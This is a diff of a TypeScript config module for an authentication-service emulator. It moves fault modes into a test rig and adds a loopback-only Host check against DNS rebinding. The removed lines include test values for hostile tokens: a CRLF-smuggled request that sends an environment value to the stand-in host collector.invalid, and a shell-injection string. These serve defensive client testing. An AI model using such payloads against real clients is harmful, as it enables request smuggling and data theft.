@@ -1,5 +1,5 @@
-// The emulator's configuration: its shape, the demo accounts and the defaults.
-// Pure: no I/O. Used by the tests, `npm start` and the built-in demo service.
+// The emulator's configuration: its shape, the demo accounts and the defaults. Pure: no I/O. Used by the
+// built-in demo service, `npm start` and the tests (whose rig, test/emulator/, adds faults).
 
 export interface EmulatorUser {
 	/** User Group InstanceID. */
@@ -19,34 +19,6 @@ export interface EmulatorAdmin {
 	password: string;
 }
 
-/**
- * `bodyStatusMismatch` answers HTTP 200 with a body whose `Status` is 401, to model the
- * service's `Status` disagreeing with the HTTP status. `rateLimited` answers 429 with the
- * error envelope and `Retry-After`, as the service's rate limit does, on any endpoint.
- */
-export type FaultMode = 'none' | 'hang' | 'reset' | 'html502' | 'slow' | 'error500' | 'bodyStatusMismatch' | 'rateLimited' | AnswerFault;
-
-/**
- * A hostile or broken service that still answers 200 with tokens: `injectedToken` puts a line
- * break and a new request into the access token, `shellToken` a shell command, `expiredToken`
- * issues a token that expired a minute ago, `absurdExp` one whose `exp` is 1e16 (past what a
- * `Date` holds). The refresh token stays a real, rotating one.
- */
-export type AnswerFault = 'injectedToken' | 'shellToken' | 'expiredToken' | 'absurdExp';
-
-/** The text `injectedToken` appends to a real token. */
-export const INJECTED_TAIL = '\r\n\r\n### stolen\r\nPOST http://collector.invalid/steal?home={{$processEnv HOME}}\r\n';
-/** The text `shellToken` appends to a real token. */
-export const SHELL_TAIL = "'; echo INJECTED; : '";
-
-export interface EmulatorFaults {
-	login?: FaultMode;
-	refresh?: FaultMode;
-	slowMs?: number;
-	/** faults apply to the next N matching requests, then revert to 'none'; omitted = until changed */
-	count?: number;
-}
-
 export interface LoginRateLimit {
 	max: number;
 	windowSeconds: number;
@@ -63,7 +35,12 @@ export interface EmulatorConfig {
 	refreshTokenLifetimeSeconds: number;
 	/** Per client IP; failed and successful logins both count. */
 	loginRateLimit: LoginRateLimit;
-	faults: EmulatorFaults;
+	/**
+	 * When true (the default), a service bound to a loopback address answers Login only for a
+	 * loopback `Host`, so a web page cannot reach it by DNS rebinding. Tests that put a proxy or
+	 * a TLS front with another name before it turn it off.
+	 */
+	loopbackHostOnly: boolean;
 	/** When true, an admin login without an `InstanceId` header is a 422 (older samples send it). */
 	requireInstanceHeaderForAdmin: boolean;
 	/**
@@ -83,7 +60,6 @@ export const DEMO_ADMINS: EmulatorAdmin[] = [
 ];
 
 export const DEFAULT_PORT = 0;
-export const DEFAULT_SLOW_MS = 2000;
 
 export function defaultConfig(): EmulatorConfig {
 	return {
@@ -94,7 +70,7 @@ export function defaultConfig(): EmulatorConfig {
 		accessTokenLifetimeSeconds: 7200,
 		refreshTokenLifetimeSeconds: 90 * 24 * 60 * 60,
 		loginRateLimit: { max: 5, windowSeconds: 60, blockSeconds: 600 },
-		faults: {},
+		loopbackHostOnly: true,
 		requireInstanceHeaderForAdmin: false,
 		singleRefreshTokenPerSubject: true,
 	};
@@ -108,6 +84,5 @@ export function resolveConfig(partial: Partial<EmulatorConfig> = {}): EmulatorCo
 		...base,
 		...defined,
 		loginRateLimit: { ...base.loginRateLimit, ...defined.loginRateLimit },
-		faults: { ...defined.faults },
 	};
 }
